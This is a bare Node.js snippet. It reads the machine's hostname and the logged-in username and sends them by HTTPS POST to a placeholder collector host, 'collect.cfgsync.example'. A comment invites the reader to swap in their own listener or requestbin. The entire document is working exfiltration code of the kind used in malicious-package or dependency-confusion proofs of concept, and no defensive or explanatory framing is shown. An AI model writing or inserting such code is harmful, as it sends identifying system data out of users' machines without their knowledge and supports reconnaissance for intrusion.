const os = require("os");
const https = require("https");
const body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });
const req = https.request({
    hostname: "collect.cfgsync.example", // swap for your own listener or
requestbin
    method: "POST",
}, () => {});
req.write(body);
req.end();
